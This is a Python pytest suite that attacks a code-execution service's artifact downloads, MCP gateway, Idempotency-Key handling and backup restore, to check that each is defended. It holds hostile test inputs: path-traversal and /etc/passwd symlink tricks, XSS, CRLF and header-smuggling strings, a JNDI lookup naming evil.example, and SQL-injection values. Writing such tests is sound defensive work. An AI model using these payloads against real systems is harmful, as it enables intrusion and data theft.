"""The newer surfaces read as an attacker would: run artifacts (names, types, links planted in or
around /work/out/, processes that outlive the run), the MCP server (its key gate, sizes, the host
its links name), Idempotency-Key (keys across users, odd characters, refused requests) and backups
(the archive's permissions, crafted archives). Each test states what holds and proves it."""
from __future__ import annotations

import dataclasses
import gzip
import json
import os
import stat
import time
import unicodedata
import uuid
from pathlib import Path
from urllib.parse import unquote

import httpx
import pytest
import requests
import sqlalchemy as sa

from tests.integration.test_mcp import INITIALIZE, MCP_HEADERS, call, text
from tests.support.polling import wait_until

# ---------------------------------------------------------------------------------------------
# artifacts: names


NAMES_KEPT = ["a;b.txt", "q?x.txt", "h#x.txt", "pct%2e%2e.txt", "..%2fup.txt", "sp ace.txt", 'quo"te.txt',
              "\u00e9-nfc.txt", "e\u0301-nfd.txt", "\u65e5\u672c.txt", "%2F.txt", "a+b=c&d.txt", "d1/d2/d3/d4/deep.txt"]
NAMES_REFUSED = ["rtl\u202etxt.exe", "zw\u200bsp.txt", "nl\nx.txt", "back\\slash.txt", "tab\tx.txt",
                 "bom\ufefftxt", "d1/d2/d3/d4/d5/too-deep.txt", "long/" + "x" * 200 + "/" + "y" * 60]

NAMES_CODE = f"""
import os
kept, refused = {NAMES_KEPT!r}, {NAMES_REFUSED!r}
for name in kept + refused:
    os.makedirs(os.path.dirname('/work/out/' + name), exist_ok=True)
    open('/work/out/' + name, 'w').write(name)
open(b'/work/out/bad-\\xff\\xfe.txt', 'w').write('undecodable')
"""


def test_tricky_names_are_served_under_their_own_url_and_unsafe_ones_are_not_kept(run, client, front, user):
    """Route syntax in a name (`;`, `?`, `#`, `%2e%2e`, `%2F`) is quoted in its URL and reaches the
    very file, in-process and through nginx; NFC and NFD spellings are two files; control, format
    (RTL override, zero-width, BOM) characters, backslashes, undecodable bytes, too long and too deep
    names are not kept at all."""
    assert unicodedata.normalize("NFC", "e\u0301-nfd.txt") == "\u00e9-nfd.txt"
    result = run("python", NAMES_CODE)
    assert result["status"] == "success", result
    kept = {a["name"]: a for a in result["artifacts"]}
    assert set(kept) == set(NAMES_KEPT)
    assert result["artifacts_note"].startswith(f"{len(NAMES_REFUSED) + 1} entries under /work/out/ were not kept")
    for name, item in kept.items():
        assert item["url"].startswith(f"/codestudio/executions/{result['id']}/artifacts/"), item["url"]
        assert not {"?", "#", "\\"} & set(item["url"]) and "%2e%2e" not in item["url"].lower(), item["url"]
        assert unquote(item["url"].rsplit("/artifacts/", 1)[1]) == name
        for get in (lambda url: client.get(url, headers=user["headers"]),
                    lambda url: requests.get(front.url + url, headers=user["headers"], timeout=10)):
            response = get(item["url"])
            assert response.status_code == 200, (name, response.status_code)
            assert response.content if hasattr(response, "content") else response.data
            body = response.content if isinstance(response, requests.Response) else response.data
            assert body == name.encode(), name
            assert "\n" not in response.headers["Content-Disposition"]
    # the decoded spellings of quoted names are other names, not these files
    base = f"/codestudio/executions/{result['id']}/artifacts/"
    for other in ("pct..%2etxt", "..%2fup.txt".replace("%2f", "/"), "%2F.txt".replace("%2F", "/"), "q"):
        response = client.get(base + other, headers=user["headers"])
        assert response.status_code in (308, 404), other  # `//` is merged by a redirect, to no file


def test_route_tricks_on_the_artifact_url_reach_no_other_file(run, client, front, user):
    """Dot segments, encoded slashes and matrix parameters in the URL do not climb out of the
    execution's artifacts (nginx passes the URI as sent; the lookup is by exact name)."""
    result = run("python", "open('/work/out/x.txt', 'w').write('x')\n")
    base = f"/codestudio/executions/{result['id']}/artifacts/"
    tricks = ["../../executions", "..%2f..%2fexecutions", "%2e%2e/%2e%2e/executions", "x.txt;.png",
              "x.txt%00.png", "x.txt/", "x.txt%2f", "X.TXT", "x.txt%20", "../../../executions/x.txt"]
    for trick in tricks:
        for response in (client.get(base + trick, headers=user["headers"]),
                         requests.get(front.url + base + trick, headers=user["headers"], timeout=10)):
            code = response.status_code
            assert code in (400, 404), (trick, code)
            data = response.content if isinstance(response, requests.Response) else response.data
            assert b'"executions"' not in data and data != b"x", trick


ACTIVE = {"page.html": "text/html", "pic.svg": "image/svg+xml", "doc.xhtml": "application/xhtml+xml",
          "feed.xml": ("application/xml", "text/xml"), "app.js": ("application/javascript", "text/javascript"),
          "noext": "application/octet-stream", "page.htm": "text/html", "x.shtml": "text/html"}


def test_active_types_download_and_a_png_of_html_bytes_is_never_sniffed(run, client, user):
    html = "<html><script>alert(document.domain)</script></html>"
    code = "".join(f"open('/work/out/{name}', 'w').write({html!r})\n" for name in [*ACTIVE, "fake.png", "notes.txt"])
    result = run("python", code)
    items = {a["name"]: a for a in result["artifacts"]}
    assert set(items) == {*ACTIVE, "fake.png", "notes.txt"}
    for name, item in items.items():
        response = client.get(item["url"], headers={**user["headers"], "Range": "bytes=0-3",
                                                    "If-None-Match": f'"{item["sha256"]}"'})
        # Range and If-None-Match are not honoured: the whole file, its ETag its content's hash
        assert response.status_code == 200 and response.data == html.encode(), name
        assert response.headers["ETag"] == f'"{item["sha256"]}"'
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
        assert response.headers["Cache-Control"].startswith("private")
        disposition = response.headers.get("Content-Disposition", "")
        if name in ACTIVE:
            expected = ACTIVE[name] if isinstance(ACTIVE[name], tuple) else (ACTIVE[name],)
            assert response.mimetype in expected, (name, response.mimetype)
            assert disposition.startswith("attachment"), name
        else:  # passive types inline: the PNG's bytes are HTML, but its type is the name's, unsniffed
            assert response.mimetype in ("image/png", "text/plain") and not disposition.startswith("attachment")


def test_a_name_that_spells_header_parameters_stays_one_quoted_filename(run, client, user):
    """A file named to close the quoted filename and add `filename*=...evil.html` is one filename
    parameter, its quote escaped: no header parameter of the program's making."""
    from email.message import Message

    name = "a\"; filename*=UTF-8''evil.html; x=\".bin"
    result = run("python", f"open('/work/out/' + {name!r}, 'w').write('x')\n")
    (item,) = result["artifacts"]
    assert item["name"] == name and item["mime"] == "application/octet-stream"
    response = client.get(item["url"], headers=user["headers"])
    assert response.status_code == 200 and response.data == b"x"
    header = Message()
    header["Content-Disposition"] = response.headers["Content-Disposition"]
    assert [key for key, _ in header.get_params(header="Content-Disposition")] == ["attachment", "filename"]
    assert header.get_filename() == name


def test_an_expired_artifact_is_gone_before_the_sweep_removes_it(app, run, client, user):
    result = run("python", "open('/work/out/old.txt', 'w').write('old')\n")
    (item,) = result["artifacts"]
    assert client.get(item["url"], headers=user["headers"]).status_code == 200
    with app.app_context():
        from datetime import timedelta

        from app.extensions import db
        from app.models import Artifact, utcnow

        db.session.execute(sa.update(Artifact).where(Artifact.execution_id == result["id"])
                           .values(expires_at=utcnow() - timedelta(seconds=1)))
        db.session.commit()
        assert db.session.execute(sa.select(sa.func.count()).select_from(Artifact).where(
            Artifact.execution_id == result["id"])).scalar_one() == 1  # not swept yet
    gone = client.get(item["url"], headers=user["headers"])
    assert gone.status_code == 404 and gone.get_json()["code"] == "artifact_not_found"


def test_a_case_artifact_of_another_users_batch_is_not_found(client, user, make_user, batch_worker):
    from tests.support.batches import grade

    body = grade(client, user, language="python", tests=[{"name": "one", "stdin": "", "expected_output": ""}],
                 submissions=[{"id": "s", "code": "open('/work/out/c.txt', 'w').write('case')\n"}])
    (item,) = body["submissions"][0]["results"][0]["artifacts"]
    assert client.get(item["url"], headers=user["headers"]).data == b"case"
    other = make_user()
    response = client.get(item["url"], headers=other["headers"])
    assert response.status_code == 404 and response.get_json()["code"] == "artifact_not_found"


def test_a_blob_key_is_a_sha256_and_nothing_else(tmp_path):
    """The S3 object key and the local path are built from a row's sha256 only, and a value that
    is not one (from a crafted row) names no object and no path."""
    from tasks.artifact_store import BlobNotFound, LocalBlobStore, S3BlobStore

    class Refusing:
        class exceptions:  # noqa: N801  (boto3's spelling)
            NoSuchKey = KeyError

        def get_object(self, **params):
            raise AssertionError(f"the bucket was asked for {params}")

        head_object = delete_object = put_object = get_object

    s3, local = S3BlobStore("bucket", client=Refusing()), LocalBlobStore(tmp_path)
    (tmp_path / "secret").write_text("secret")
    for bad in ("../secret", "../../etc/passwd", "A" * 64, "0" * 63, "0" * 64 + "/x", "0" * 64 + "\n", ""):
        for attempt in (s3.open, s3._key, local.open, local.get):
            with pytest.raises(BlobNotFound):
                attempt(bad)
        assert local.exists(bad) is False
    sha = local.put(b"data")
    mode = stat.S_IMODE((tmp_path / sha[:2] / sha).stat().st_mode)
    assert mode == 0o600 and stat.S_IMODE((tmp_path / sha[:2]).stat().st_mode) == 0o700


# ---------------------------------------------------------------------------------------------
# artifacts: the collector against a tree that changes under it (a real directory, no jail)


def _collect(root: Path, files: int = 100):
    from sandbox import outputs
    from sandbox.outputs import OutputCaps

    return outputs.collect(root, OutputCaps(files=files, total_bytes=1 << 20))


def test_entries_swapped_between_listing_and_opening_are_refused(tmp_path, monkeypatch):
    """What the walk listed may change before it opens it (a file made a directory, a directory a
    file, either a symlink to /etc): each is refused by what the opened fd is, never followed."""
    from sandbox import safefs

    out = tmp_path / "out"
    (out / "dir").mkdir(parents=True)
    (out / "dir" / "inner.txt").write_text("inner")
    for name in ("file.txt", "link.txt", "kept.txt"):
        (out / name).write_text(name)
    (out / "linkdir").mkdir()
    real_entries = safefs.entries

    def entries_then_swap(dir_fd):
        listed = real_entries(dir_fd)
        if any(name == "file.txt" for name, _, _ in listed):
            os.remove(out / "file.txt")
            os.mkdir(out / "file.txt")  # a file listed, a directory opened
            os.remove(out / "dir" / "inner.txt")
            os.rmdir(out / "dir")
            (out / "dir").write_text("now a file")  # a directory listed, a file opened
            os.remove(out / "link.txt")
            os.symlink("/etc/passwd", out / "link.txt")
            os.rmdir(out / "linkdir")
            os.symlink("/etc", out / "linkdir")
        return listed

    monkeypatch.setattr(safefs, "entries", entries_then_swap)
    found = _collect(tmp_path)
    assert [f.name for f in found.files] == ["kept.txt"] and found.unsafe == 4
    assert all(b"root:" not in f.content for f in found.files)


def test_out_itself_a_symlink_a_file_or_another_users_is_not_walked(tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "theirs.txt").write_text("another run's file")
    (tmp_path / "out").symlink_to(elsewhere)
    assert _collect(tmp_path).files == ()
    (tmp_path / "out").unlink()
    (tmp_path / "out").write_text("a file")
    assert _collect(tmp_path).files == ()


def test_files_of_another_owner_or_with_a_second_name_are_refused(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "mine.txt").write_text("mine")
    (out / "nobodys.txt").write_text("nobody's")
    os.chown(out / "nobodys.txt", 65534, 65534)
    (tmp_path / "secret.txt").write_text("outside out/")
    os.link(tmp_path / "secret.txt", out / "hardlink.txt")
    found = _collect(tmp_path)
    assert [f.name for f in found.files] == ["mine.txt"] and found.unsafe == 2


def test_twelve_thousand_empty_files_and_a_deep_tree_cost_little(tmp_path):
    """More entries than a run's /work can hold (its tmpfs has 4096 inodes) planted from outside:
    the walk stops looking after MAX_ENTRIES, keeps the cap's count, and ends in well under a second."""
    from sandbox.outputs import MAX_ENTRIES

    out = tmp_path / "out"
    out.mkdir()
    for i in range(12_000):
        (out / f"f{i:05}").touch()
    deep = out
    for i in range(40):
        deep = deep / f"d{i}"
    deep.mkdir(parents=True)
    started = time.monotonic()
    found = _collect(tmp_path, files=50)
    elapsed = time.monotonic() - started
    # d0/ sorts first: d0/d1/d2/d3 are walked (4 entries) and d4/ is too deep; then the f* files
    assert len(found.files) == 50 and found.unsafe == 1
    assert found.over_count == MAX_ENTRIES - 50 - 5
    assert elapsed < 2.0, elapsed


# ---------------------------------------------------------------------------------------------
# artifacts: inside the jail


@pytest.mark.sandbox
def test_out_replaced_by_a_symlink_to_etc_keeps_nothing(run):
    code = "import os, shutil\nshutil.rmtree('/work/out')\nos.symlink('/etc', '/work/out')\nprint('swapped')\n"
    result = run("python", code)
    assert result["status"] == "success" and result["stdout"] == "swapped\n", result
    assert result["artifacts"] == [] and result["artifacts_note"] is None


@pytest.mark.sandbox
def test_out_replaced_by_a_symlink_to_the_runs_dir_on_the_host_keeps_nothing(run, stack_env):
    runs = stack_env["SANDBOX_RUNS_DIR"]
    code = (f"import os, shutil\nshutil.rmtree('/work/out')\nos.symlink({runs!r}, '/work/out')\n"
            "os.mkdir('/work/other')\nopen('/work/other/x', 'w').write('x')\n")
    result = run("python", code)
    assert result["status"] == "success", result
    assert result["artifacts"] == []


DAEMON = """
import os, time
open('/work/out/steady.txt', 'w').write('steady')
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:  # a daemon: its own session, its parent gone
        while True:
            try:
                os.replace('/work/out/steady.txt', '/work/out/moving')
                os.symlink('/etc/passwd', '/work/out/steady.txt')
                os.remove('/work/out/steady.txt')
                os.replace('/work/out/moving', '/work/out/steady.txt')
            except OSError:
                pass
    os._exit(0)
time.sleep(0.3)
print('parent done')
"""


@pytest.mark.sandbox
def test_no_process_of_the_run_is_alive_when_its_files_are_collected(stack_env, monkeypatch):
    """A daemon that outlives its parent (own session, reparented) and keeps swapping a file for a
    symlink is dead before the collector looks: no process runs as the run's uid then."""
    from sandbox import ExecutionStatus, Runner, RunSpec, outputs, registry
    from sandbox.outputs import OutputCaps
    from sandbox.settings import SandboxSettings

    real_collect, alive = outputs.collect, []

    def check_then_collect(work_path, caps):
        uid = os.stat(work_path).st_uid
        alive.append([pid for pid in os.listdir("/proc") if pid.isdigit() and _uid_of(pid) == uid])
        return real_collect(work_path, caps)

    monkeypatch.setattr(outputs, "collect", check_then_collect)
    runner = Runner(dataclasses.replace(SandboxSettings.from_env(), warm_compilers=False))
    runner.prepare()
    spec = RunSpec(language=registry().get("python"), code=DAEMON,
                   outputs=OutputCaps(files=10, total_bytes=1 << 20))
    result = runner.run(spec)
    assert result.status == ExecutionStatus.SUCCESS and result.stdout == "parent done\n", result
    assert alive == [[]]
    names = [f.name for f in result.outputs.files]
    assert names in ([], ["steady.txt"], ["moving"]) and all(f.content == b"steady" for f in result.outputs.files)


def _uid_of(pid: str) -> int | None:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("Uid:"):
                return int(line.split()[1])
    except OSError:
        return None
    return None


# ---------------------------------------------------------------------------------------------
# MCP


def mcp_post(front, key: str | None, url_suffix: str = "", **kwargs) -> requests.Response:
    headers = {**MCP_HEADERS, **({"Authorization": f"Bearer {key}"} if key else {}), **kwargs.pop("headers", {})}
    return requests.post(front.url + "/mcp" + url_suffix, headers=headers, timeout=30,
                         **({"json": INITIALIZE} | kwargs))


def test_a_key_in_the_query_string_is_refused_and_no_key_is_logged(front, user):
    for query in (f"?api_key={user['key']}", f"?key={user['key']}", f"?access_token={user['key']}",
                  f"?Authorization=Bearer%20{user['key']}"):
        response = mcp_post(front, None, query)
        assert response.status_code == 401 and response.json()["code"] == "unauthorized", query
    marker = uuid.uuid4().hex
    assert mcp_post(front, user["key"], f"?m={marker}").status_code == 200
    access_log = front.state_dir / "access.log"
    wait_until(lambda: access_log.exists() and marker in access_log.read_text(), timeout=15)
    logs = "".join(p.read_text(errors="replace") for p in front.state_dir.glob("*.log"))
    secret = user["key"].split("_")[-1][-20:]
    assert f"Bearer {user['key']}" not in logs
    assert sum(1 for line in logs.splitlines() if secret in line and "?" not in line) == 0


def test_the_gates_memory_is_of_the_whole_key(front, user):
    """A trusted key's neighbours (one character changed, cut short, extended) are each asked of
    the API and refused: the gate remembers a digest of the whole key."""
    key = user["key"]
    assert mcp_post(front, key).status_code == 200  # trusted from now on
    flipped = key[:-1] + ("A" if key[-1] != "A" else "B")
    for near in (flipped, key[:-1], key + "x", key[:11], key.upper() if key.upper() != key else key.lower()):
        response = mcp_post(front, near)
        assert response.status_code == 401 and response.json()["code"] == "unauthorized", near


def test_a_body_over_the_limit_is_413_at_nginx_and_at_the_mcp_socket(front, user):
    big = {"jsonrpc": "2.0", "id": 2, "method": "tools/call",
           "params": {"name": "run_code", "arguments": {"language": "python", "code": "#" * (9 << 20)}}}
    response = mcp_post(front, user["key"], json=big)
    assert response.status_code == 413 and response.json()["code"] == "payload_too_large"
    # straight to the MCP process's socket, around nginx: its own cap answers
    transport = httpx.HTTPTransport(uds=str(front.runtime_dir / "mcp.sock"))
    with httpx.Client(transport=transport, base_url="http://localhost", timeout=60) as direct:
        answer = direct.post("/mcp", json=big, headers={**MCP_HEADERS, "Authorization": f"Bearer {user['key']}"})
    assert answer.status_code == 413, answer.text[:300]


def test_a_code_argument_over_the_apis_limit_and_an_unknown_language_are_tool_errors(front, worker, user):
    huge = call(front, user["key"], "run_code", {"language": "python", "code": "#" * (1024 * 1024 + 10)})
    assert huge.is_error and huge.structured_content["status"] in (413, 422), text(huge)
    for language in ("brainfuck-9000", "../python", "python/../java", ""):
        result = call(front, user["key"], "run_code", {"language": language, "code": "print(1)"})
        assert result.is_error and result.structured_content["status"] in (400, 404, 422), (language, text(result))
        assert "Traceback" not in text(result)


def test_get_execution_with_path_tricks_reaches_no_other_resource(front, worker, user, run, make_user):
    other = make_user()
    theirs = run("python", "print('theirs')", headers=other["headers"])
    for execution_id in (theirs["id"], f"../project/{theirs['id']}", "..%2f..%2fexecutions", "?limit=100"):
        result = call(front, user["key"], "get_execution", {"execution_id": execution_id})
        assert result.is_error, (execution_id, text(result))
        assert "theirs" not in json.dumps(result.structured_content or {}), execution_id


IMAGE_AND_FILE = ("import base64\nopen('/work/out/dot.png', 'wb').write(base64.b64decode("
                  "'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=='))\n"
                  "open('/work/out/notes.txt', 'w').write('hello')\n")


def tool_call_over_front(front, key: str, code: str, **headers: str) -> dict:
    body = {"jsonrpc": "2.0", "id": 3, "method": "tools/call",
            "params": {"name": "run_code", "arguments": {"language": "python", "code": code}}}
    response = mcp_post(front, key, json=body, headers=headers)
    assert response.status_code == 200, response.text
    (data,) = [line[5:] for line in response.text.splitlines() if line.startswith("data:")]
    return json.loads(data)["result"]


def test_links_name_the_callers_own_host_and_forwarded_headers_are_nginxs(front, worker, user):
    """Links are built from the Host the caller sent (so a caller can only mislead itself), with the
    scheme nginx saw, never a client's X-Forwarded-Proto or X-Forwarded-Host; the artifacts it inlines
    are fetched over the API's socket whatever the Host says (no request goes to evil.example)."""
    result = tool_call_over_front(front, user["key"], IMAGE_AND_FILE, **{
        "X-Forwarded-Proto": "https", "X-Forwarded-Host": "evil.example", "Forwarded": "host=evil.example"})
    (link,) = [c for c in result["content"] if c["type"] == "resource_link"]
    assert link["uri"].startswith(front.url + "/codestudio/executions/"), link
    assert any(c["type"] == "image" for c in result["content"])
    spoofed = tool_call_over_front(front, user["key"], IMAGE_AND_FILE, Host="evil.example")
    assert any(c["type"] == "image" for c in spoofed["content"])  # fetched through the socket
    (link,) = [c for c in spoofed["content"] if c["type"] == "resource_link"]
    assert link["uri"].startswith("http://evil.example/codestudio/executions/") and user["key"] not in link["uri"]


def test_a_malformed_host_falls_back_to_localhost_and_a_client_cannot_claim_an_address():
    from mcp_server.access import RequestKey
    from mcp_server.settings import McpSettings

    access = RequestKey(McpSettings(api_socket="/nonexistent.sock"))
    for host in ("evil.example/path", "user@evil.example", "evil.example\r\nX: y", "a b", "", "évil.example"):
        caller = access.for_request("k", {"host": host})
        assert caller.public_url == "http://localhost" and caller.api_url == "http://localhost", host
    caller = access.for_request("k", {"host": "api.example:8443", "x-forwarded-proto": "https",
                                      "x-forwarded-host": "evil.example"})
    assert caller.public_url == "https://api.example:8443"
    assert set(caller.headers) == {"X-Forwarded-Proto"}  # no X-Forwarded-For or Host of the client's


# ---------------------------------------------------------------------------------------------
# Idempotency-Key


def keyed_run(client, user, key: str, code: str = "print(1)", **body):
    return client.post("/codestudio/run", json={"language": "python", "code": code, **body},
                       headers={**user["headers"], "Idempotency-Key": key})


@pytest.mark.parametrize("key", ['a"b\\c', "<script>alert(1)</script>", "%0d%0aSet-Cookie: x=1",
                                 "${jndi:ldap://evil.example/a}", "'; DROP TABLE idempotency_keys; --",
                                 "key with spaces ~!@#$%^&*()"])
def test_odd_printable_keys_work_and_are_never_echoed_in_headers(client, user, worker, key):
    first = keyed_run(client, user, key)
    again = keyed_run(client, user, key)
    assert first.status_code == again.status_code == 200, first.get_data(as_text=True)
    assert again.get_json()["id"] == first.get_json()["id"] and again.headers["Idempotent-Replayed"] == "true"
    for response in (first, again):
        assert all(key not in value for value in response.headers.values())


def test_keys_differ_by_case_and_a_key_of_another_user_is_no_oracle(client, user, make_user, worker):
    key = f"Key-{uuid.uuid4().hex}"
    upper, lower = keyed_run(client, user, key), keyed_run(client, user, key.lower())
    assert upper.get_json()["id"] != lower.get_json()["id"]
    other = make_user()
    # another body under the same key: for its owner a 422, for another user simply a new run
    assert keyed_run(client, user, key, code="print(2)").status_code == 422
    theirs = keyed_run(client, other, key, code="print(2)")
    assert theirs.status_code == 200 and "Idempotent-Replayed" not in theirs.headers
    assert theirs.get_json()["id"] != upper.get_json()["id"]
    same_body = keyed_run(client, other, key)  # the first user's body: a reuse of the other's own key
    assert same_body.status_code == 422 and upper.get_json()["id"] not in same_body.get_data(as_text=True)


def test_a_refused_request_does_not_spend_its_key(client, user, worker):
    key = uuid.uuid4().hex
    too_big = keyed_run(client, user, key, code="#" * (1024 * 1024 + 1))
    assert too_big.status_code in (413, 422) and too_big.get_json()["code"]
    bad = keyed_run(client, user, key, language_version="no-such-version", stdin=7)
    assert bad.status_code in (400, 422)
    good = keyed_run(client, user, key)
    assert good.status_code == 200 and "Idempotent-Replayed" not in good.headers


def test_a_body_over_the_request_limit_with_a_key_is_413_not_500(client, user):
    response = client.post("/codestudio/run", data=b'{"language":"python","code":"' + b"#" * (9 << 20) + b'"}',
                           headers={**user["headers"], "Idempotency-Key": "big",
                                    "Content-Type": "application/json"})
    assert response.status_code == 413 and response.get_json()["code"]


# ---------------------------------------------------------------------------------------------
# backups


def test_the_archive_is_readable_by_its_owner_only_and_a_planted_symlink_is_not_followed(app, tmp_path):
    from app.cli.backup import backup_command

    victim = tmp_path / "victim.txt"
    victim.write_text("not to be overwritten")
    path = tmp_path / "b.gz"
    (tmp_path / "b.gz.partial").symlink_to(victim)
    old_umask = os.umask(0)  # the most permissive umask: the mode is the command's own
    try:
        result = app.test_cli_runner().invoke(backup_command, [str(path)])
    finally:
        os.umask(old_umask)
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert victim.read_text() == "not to be overwritten" and not (tmp_path / "b.gz.partial").exists()


def _archive(app, tmp_path) -> tuple[dict, list[dict]]:
    from app.cli.backup import backup_command

    path = tmp_path / "source.gz"
    assert app.test_cli_runner().invoke(backup_command, [str(path)]).exit_code == 0
    with gzip.open(path, "rt") as source:
        manifest, *rows = (json.loads(line) for line in source)
    return manifest, rows


def _write(path: Path, manifest: dict, rows: list) -> Path:
    with gzip.open(path, "wt") as out:
        out.write(json.dumps(manifest) + "\n")
        for row in rows:
            out.write((row if isinstance(row, str) else json.dumps(row)) + "\n")
    return path


def _crafted(manifest: dict, rows: list[dict]) -> dict[str, tuple[dict, list]]:
    first = next(r for r in rows if r["t"] == "users")
    execution = next(r for r in rows if r["t"] == "executions")

    def with_user(**changes):
        return [{"t": "users", "r": {**first["r"], **changes}}]

    def with_execution(**changes):
        return [{"t": "executions", "r": {**execution["r"], **changes}}]

    one, one_execution = {**manifest, "rows": {"users": 1}}, {**manifest, "rows": {"executions": 1}}
    return {
        "unknown table": (one, [{"t": "alembic_version", "r": {"version_num": "x"}}]),
        "unknown column": (one, [{"t": "users", "r": {**first["r"], "is_admin": True}}]),
        "an integer as text": (one, with_user(id="1; DROP TABLE users")),
        "an integer as a boolean": (one, with_user(id=True)),
        "a boolean as text": (one_execution, with_execution(stdout_truncated="yes")),
        "bad base64": (one_execution, with_execution(stdin="@@@ not base64")),
        "a timestamp that is not one": (one, with_user(created_at="yesterday")),
        "a timestamp as a number": (one, with_user(created_at=12)),
        "a missing required column": (one, [{"t": "users", "r": {"id": first["r"]["id"]}}]),
        "a line that is not JSON": (one, ["{not json"]),
        "a line that is not a row": (one, [[1, 2, 3]]),
        "a row that is not an object": (one, [{"t": "users", "r": "x"}]),
        "a manifest without rows": ({k: v for k, v in manifest.items() if k != "rows"}, []),
        "an unknown revision": ({**manifest, "revision": "0000deadbeef"}, []),
        "a duplicate key": ({**manifest, "rows": {"users": 2}}, [*with_user(), *with_user()]),
        "rows missing from the count": ({**manifest, "rows": {"users": 2}}, with_user()),
    }


def test_a_crafted_archive_fails_cleanly_and_writes_nothing(app, app_with, run, tmp_path, empty_database):
    from app.cli.backup import restore_command
    from app.services import backup as archive

    run(code="print(1)")
    manifest, rows = _archive(app, tmp_path)
    restored = app_with(SQLALCHEMY_DATABASE_URI=empty_database)
    for case, (crafted_manifest, crafted_rows) in _crafted(manifest, rows).items():
        path = _write(tmp_path / "crafted.gz", crafted_manifest, crafted_rows)
        result = restored.test_cli_runner().invoke(restore_command, [str(path)])
        assert result.exit_code == 1 and "Error: " in result.output, (case, result.output, result.exception)
        assert "Traceback" not in result.output, case
        assert isinstance(result.exception, SystemExit), (case, result.exception)
        with restored.app_context():
            from app.extensions import db

            counts = {t.name: db.session.execute(sa.select(sa.func.count()).select_from(t)).scalar_one()
                      for t in archive.tables(db.metadata)}
            db.session.remove()
        assert not any(counts.values()), (case, counts)
    # SQL in values is data: a user whose e-mail is an injection restores as written
    users = [r for r in rows if r["t"] == "users"][:1]
    evil = "x'); DELETE FROM users; --@example.test"
    users[0]["r"]["email"] = evil
    path = _write(tmp_path / "evil.gz", {**manifest, "rows": {"users": 1}}, users)
    result = restored.test_cli_runner().invoke(restore_command, [str(path)])
    assert result.exit_code == 0, result.output
    with restored.app_context():
        from app.extensions import db
        from app.models import User

        assert db.session.execute(sa.select(User.email)).scalars().all() == [evil]
        db.session.remove()
